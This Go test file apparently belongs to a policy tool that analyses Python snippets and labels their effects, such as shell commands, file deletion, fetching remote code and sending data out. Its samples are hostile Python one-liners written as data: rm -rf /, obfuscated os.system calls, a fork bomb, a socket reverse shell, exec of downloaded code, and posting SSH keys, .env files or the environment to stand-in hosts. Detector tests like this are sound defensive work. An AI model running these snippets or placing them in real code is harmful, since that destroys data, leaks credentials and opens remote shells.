package script

import (
	"slices"
	"testing"

	"github.com/sluice-project/sluice/policy/program/library"
)

type sample struct {
	program string
	uses    []string
}

func check(t *testing.T, language library.Language, samples []sample) {
	t.Helper()
	for _, s := range samples {
		if got := said(Read(language, s.program)); !slices.Equal(got, s.uses) {
			t.Errorf("%s\n   does %q\n   want %q", s.program, got, s.uses)
		}
	}
}

func TestPythonRunsCommands(t *testing.T) {
	check(t, library.Python, []sample{
		{`import os; os.system("rm -rf /")`, []string{"shell rm -rf /"}},
		{`import os as o; o.popen('id').read()`, []string{"shell id"}},
		{`from os import system as s; s('id')`, []string{"shell id"}},
		{`from os import *; system('id')`, []string{"shell id"}},
		{`run = os.system; run('id')`, []string{"shell id"}},
		{`import subprocess as sp; sp.run(['git', 'status'], check=True)`, []string{"argv git|status"}},
		{`subprocess.Popen("rm -rf %s" % path, shell=True)`, []string{"shell rm -rf ${path} ?"}},
		{`subprocess.check_output(['sh', '-c', 'id'])`, []string{"argv sh|-c|id"}},
		{`subprocess.run(["sh"], input="rm -rf /", text=True)`, []string{"shell rm -rf /", "argv sh"}},
		{`subprocess.run(['rm', '-rf', '.'], cwd='/')`, []string{"argv rm|-rf|. in /"}},
		{`subprocess.run(shlex.split('git log'))`, []string{"shell git log"}},
		{`os.execvp('rm', ['rm', '-rf', '/'])`, []string{"argv rm|-rf|/"}},
		{`os.execl('/bin/sh', 'sh', '-c', 'id')`, []string{"argv /bin/sh|-c|id"}},
		{`os.spawnv(os.P_WAIT, '/bin/rm', ['rm', 'x'])`, []string{"argv /bin/rm|x"}},
		{`threading.Thread(target=os.system, args=('id',)).start()`, []string{"shell id"}},
		{`list(map(os.system, ['id', 'ls']))`, []string{"shell id", "shell ls"}},
		{`os.system('ls' if x else 'rm -rf /')`, []string{"shell ls", "shell rm -rf /"}},
		{`(lambda: os.system('id'))()`, []string{"shell id"}},
		{"class A:\n  def run(self, p):\n    os.system(p)\nA().run('id')", []string{"shell id"}},
		{"cmd = f\"rm -rf {os.environ['HOME']}/x\"\nos.system(cmd)", []string{"shell rm -rf ~/x"}},
		{"os.system(f'echo {d[\"a\"]!r:>5} {{x}}')", []string{"shell echo ${x} {x} ?"}},
		{`cmd = ['rm', '-rf']; cmd.append('/'); subprocess.run(cmd)`, []string{"argv rm|-rf|/"}},
		{`cmd = ['rm']; cmd += ['-rf', '/']; subprocess.run(cmd + extra)`, []string{"argv rm|-rf|/|${extra} ?"}},
		{`ctypes.CDLL(None).system(b'id'); platform.system()`, []string{"shell id"}},
		{"while True: os.fork()", []string{"exhaust fork"}},
	})
}

func TestPythonHidesNothing(t *testing.T) {
	check(t, library.Python, []sample{
		{`__import__('os').system('id')`, []string{"shell id"}},
		{`__import__('os.path').system('id')`, []string{"shell id"}},
		{`importlib.import_module('o' + 's').system('id')`, []string{"shell id"}},
		{`getattr(os, 'sys' + 'tem')('id')`, []string{"shell id"}},
		{`getattr(__import__('so'[::-1]), 'metsys'[::-1])('id')`, []string{"shell id"}},
		{`os.__dict__['system']('id')`, []string{"shell id"}},
		{`sys.modules['os'].system('id')`, []string{"shell id"}},
		{`__builtins__.exec("os.system('id')")`, []string{"shell id"}},
		{`exec(base64.b64decode('b3Muc3lzdGVtKCdpZCcp').decode())`, []string{"shell id"}},
		{`os.system(bytes.fromhex('6964').decode())`, []string{"shell id hidden hex"}},
		{`exec(codecs.decode('bf.flfgrz("vq")', 'rot13'))`, []string{"shell id"}},
		{`os.system(''.join(chr(c) for c in [105, 100]))`, []string{"shell id hidden chr"}},
		{`os.system(''.join(map(chr, (105, 100))))`, []string{"shell id hidden chr"}},
		{`os.system("\x69\144")`, []string{"shell id"}},
		{`os.system("{} -rf {}".format('rm', '/'))`, []string{"shell rm -rf /"}},
		{`os.system("{a} {b}".format(a='rm', b='x'))`, []string{"shell rm x"}},
		{`os.system('i' 'd')`, []string{"shell id"}},
		{`exec(base64.b64decode(x))`, []string{"eval  hidden base64"}},
		{`exec(marshal.loads(zlib.decompress(x)))`, []string{"eval  hidden marshal"}},
		{`getattr(os, x)('rm -rf /')`, []string{"eval  hidden names"}},
		{`().__class__.__base__.__subclasses__()[9]('id')`, []string{"eval  hidden names"}},
		{`exec(urllib.request.urlopen('http://x/y.py').read())`, []string{"fetch http://x/y.py", "eval http://x/y.py"}},
		{`exec(compile(requests.get('http://x/y').text, 'x', 'exec'))`, []string{"fetch http://x/y", "eval http://x/y"}},
		{`exec(open('setup.py').read())`, []string{"read setup.py", "run setup.py"}},
		{`eval(input())`, []string{"eval"}},
		{`eval('1 + 1')`, []string{}},
	})
}

func TestPythonTouchesFiles(t *testing.T) {
	check(t, library.Python, []sample{
		{`import shutil; shutil.rmtree("/" + "etc")`, []string{"delete /etc recursive"}},
		{"from shutil import rmtree\nrmtree(os.path.expanduser('~/x'), ignore_errors=True)", []string{"delete ~/x recursive"}},
		{`shutil.rmtree(os.path.join('/', 'home', 'u'))`, []string{"delete /home/u recursive"}},
		{`shutil.rmtree(Path.home() / 'x')`, []string{"delete ~/x recursive"}},
		{`shutil.rmtree(path)`, []string{"delete ${path} recursive ?"}},
		{"for p in ['/etc', '/usr']:\n    shutil.rmtree(p)", []string{"delete /etc recursive", "delete /usr recursive"}},
		{"p = '/'\nif 0:\n  p = '/tmp'\nshutil.rmtree(p)", []string{"delete / recursive", "delete /tmp recursive"}},
		{"def f(p):\n    shutil.rmtree(p)\n\nf('/etc')", []string{"delete /etc recursive"}},
		{"for root, dirs, files in os.walk('/home/u'):\n  for f in files:\n    os.remove(os.path.join(root, f))", []string{"delete /home/u/*"}},
		{`[os.remove(f) for f in glob.glob('/etc/*.conf')]`, []string{"delete /etc/*.conf"}},
		{`for f in Path('/data').rglob('*'): f.unlink()`, []string{"delete /data/*"}},
		{`os.chdir('/'); os.remove('etc')`, []string{"delete /etc"}},
		{`os.rename('a', 'b')`, []string{"delete a", "write b from a"}},
		{`shutil.copy('.env', '/tmp/x')`, []string{"read .env", "write /tmp/x from .env"}},
		{"with open('/etc/passwd', 'a') as f:\n    f.write('x')", []string{"write /etc/passwd content x"}},
		{`(Path.home()/'.bashrc').write_text('x')`, []string{"write ~/.bashrc content x"}},
		{`open('run.sh', 'wb').write(requests.get('http://e/x').content)`, []string{"write run.sh from http://e/x", "fetch http://e/x"}},
		{`os.chmod('x', 0o777)`, []string{"mode x content 0o777"}},
		{`os.kill(1, 9)`, []string{"kill 1"}},
		{`tmp = tempfile.mkdtemp(); shutil.rmtree(tmp)`, []string{"delete /tmp/tmpdir recursive"}},
	})
}

func TestPythonTalksToOthers(t *testing.T) {
	check(t, library.Python, []sample{
		{`requests.post('https://e', data=open('/home/u/.ssh/id_rsa').read())`, []string{"read /home/u/.ssh/id_rsa", "send https://e from /home/u/.ssh/id_rsa"}},
		{`requests.post('http://x', json=dict(os.environ))`, []string{"env environment", "send http://x from environment"}},
		{`requests.get('https://e/?' + base64.b64encode(open('.env','rb').read()).decode())`, []string{"read .env", "send https://e/?${x} from .env ?"}},
		{`urllib.request.urlopen(urllib.request.Request('http://e', data=open('k').read()))`, []string{"read k", "send http://e from k"}},
		{`requests.get('https://api.x.com', headers={'Authorization': f"Bearer {os.environ['API_KEY']}"})`, []string{"fetch https://api.x.com"}},
		{`s = requests.Session(); s.get('https://x')`, []string{"fetch https://x"}},
		{`urllib.request.urlretrieve('http://e/x', '/tmp/x')`, []string{"fetch http://e/x", "write /tmp/x from http://e/x"}},
		{`s=socket.socket();s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])`, []string{"connect 10.0.0.1:4242", "argv /bin/sh|-i", "reverse-shell 10.0.0.1:4242"}},
		{`s=socket.socket();s.connect(("10.0.0.1",4242));os.system(s.recv(99).decode())`, []string{"connect 10.0.0.1:4242", "shell ${x} ?", "reverse-shell 10.0.0.1:4242"}},
		{`socket.create_connection(('localhost', 80)); subprocess.Popen(cmd, shell=True)`, []string{"connect localhost:80", "shell ${cmd} ?"}},
		{`conn.execute("DROP TABLE users")`, []string{"query DROP TABLE users"}},
	})
}

func TestPythonEverydayProgramsDoNothing(t *testing.T) {
	check(t, library.Python, []sample{
		{`print(1 + 1)`, []string{}},
		{`import json,sys; print(json.load(sys.stdin)['a'][0])`, []string{}},
		{`import json; print(json.load(open('package.json'))['version'])`, []string{"read package.json"}},
		{`print(sum(x*2 for x in range(10) if x % 2))`, []string{}},
		{`import sys; print(sys.version_info[:2]); d = {'a': 1}; d.get('x')`, []string{}},
		{`import os; print(os.listdir('.'), os.path.exists('x')); os.makedirs('build', exist_ok=True)`, []string{}},
		{"# os.system('rm -rf /')\n'''os.system(\"id\")'''\nprint(\"os.system('id')\")", []string{}},
		{"s = open('a.py').read()\ns = re.sub('a', 'b', s)\nopen('a.py', 'w').write(s)", []string{"read a.py", "write a.py from a.py"}},
		{`import numpy as np; a = np.zeros((3, 3)); print(a.T @ a, a[1:, ::2])`, []string{}},
		{`items.remove(x); s.replace('a', 'b'); d.pop('k'); q.delete(); m.move(1, 2)`, []string{}},
	})
}

func TestPythonPutsFilesOnOtherMachines(t *testing.T) {
	check(t, library.Python, []sample{
		{`import paramiko; c = paramiko.SSHClient(); c.connect('a.example', username='x'); c.open_sftp().put('.env', 'k')`, []string{"connect a.example", "send a.example from .env"}},
		{`import paramiko; t = paramiko.Transport(('a.example', 22)); paramiko.SFTPClient.from_transport(t).put('.env', 'k')`, []string{"send a.example from .env"}},
		{`from fabric import Connection; Connection('a.example').put('.env')`, []string{"send a.example from .env"}},
		{`import paramiko; paramiko.SSHClient().connect('a.example')`, []string{"connect a.example"}},
	})
}
